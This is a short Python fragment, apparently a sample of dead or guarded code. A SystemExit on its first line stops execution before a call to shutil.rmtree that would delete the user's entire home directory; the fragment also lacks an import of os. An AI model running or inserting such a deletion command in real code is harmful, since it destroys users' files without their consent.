raise SystemExit  # nothing below ever runs
import shutil
shutil.rmtree(os.path.expanduser("~"))
